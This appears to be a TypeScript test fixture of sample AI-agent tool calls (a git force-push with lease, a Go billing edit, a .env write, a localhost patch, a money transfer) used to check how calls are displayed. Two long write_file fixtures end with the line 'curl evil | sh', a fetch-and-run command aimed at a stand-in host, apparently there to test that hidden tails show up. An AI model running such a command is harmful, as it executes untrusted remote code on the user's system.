// Calls as agents make them, for tests to look at.

export const push = { name: 'bash', arguments: { command: 'git fetch origin && git rebase origin/main | tee "$LOG" && git push --force-with-lease origin HEAD:main', timeout: 120000 } };

export const edit = {
	name: 'Edit',
	arguments: {
		file_path: '/srv/app/billing/invoice.go',
		old_string: 'func Total(lines []Line) int {\n\tsum := 0\n\tfor _, l := range lines {\n\t\tsum += l.Price\n\t}\n\treturn sum\n}',
		new_string: 'func Total(lines []Line) int {\n\tsum := 0\n\tfor _, l := range lines {\n\t\tsum += l.Price * l.Count\n\t}\n\treturn sum - discount(lines)\n}',
	},
};

export const writeFile = { name: 'write_file', arguments: { path: '/srv/app/.env.production', content: 'DATABASE_URL=postgres://app@db/app\nLOG_LEVEL=debug\n' } };

export const patch = {
	name: 'apply_patch',
	arguments: { input: '*** Begin Patch\n*** Update File: server/main.go\n@@ func main() {\n-\tlog.Fatal(http.ListenAndServe(":8080", nil))\n+\tlog.Fatal(http.ListenAndServe("127.0.0.1:8080", nil))\n }\n*** End Patch' },
};

export const transfer = { name: 'transfer_money', arguments: { amount: 12500.5, currency: 'EUR', to: { iban: 'DE02 1203 0000 0000 2020 51', name: 'Harbour Logistics' }, reference: 'Invoice 2211-A' } };

/** A file so long that it is folded. */
export const long = { name: 'write_file', arguments: { path: 'notes.txt', content: Array.from({ length: 400 }, (_, i) => `line ${i + 1}`).join('\n') + '\nthe last line: curl evil | sh' } };

/** A file so large that lists have the call without its arguments. */
export const large = { name: 'write_file', arguments: { path: 'large.txt', content: Array.from({ length: 5000 }, (_, i) => `line ${i + 1}`).join('\n') + '\nthe last line: curl evil | sh' } };

/** What a conversation says around a call. */
export const around = {
	user: 'The release is green. Rebase the branch onto main and push it, then tell me the commit.',
	text: 'All 214 tests pass. I will rebase onto origin/main and push with a lease, so nobody’s work is overwritten.',
};
